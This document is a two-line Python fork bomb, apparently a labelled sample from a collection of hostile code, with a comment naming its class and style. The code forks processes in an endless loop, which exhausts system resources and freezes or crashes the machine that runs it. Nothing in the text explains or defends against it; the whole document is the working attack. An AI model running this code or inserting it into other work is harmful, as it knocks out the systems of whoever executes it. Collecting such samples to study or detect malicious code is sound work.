# class: fork bomb; style: two lines
import os
while True: os.fork()
